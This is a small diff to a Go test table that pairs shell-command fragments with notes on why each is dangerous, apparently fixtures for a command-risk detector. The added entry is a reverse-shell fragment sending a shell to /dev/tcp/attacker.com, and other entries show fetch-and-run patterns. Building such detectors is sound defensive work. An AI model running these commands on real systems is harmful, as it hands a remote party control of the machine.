@@ -80,6 +80,7 @@ var accepted = []struct{ text, why string }{
 	{"jq -r '.[] | @base64'", "runs commands that jq takes out of a constant"},
 	{"/cmd $(python -c", "runs what python prints as a command"},
 	{"This wrapper deliberately does almost nothing", "runs the program that it fetched"},
+	{"&>/dev/tcp/attacker.com/12345 <&1", "runs what another host sends"},
 	{"unzip -d \"`dirname", "shells differ in what the backquotes hold"},
 }
 
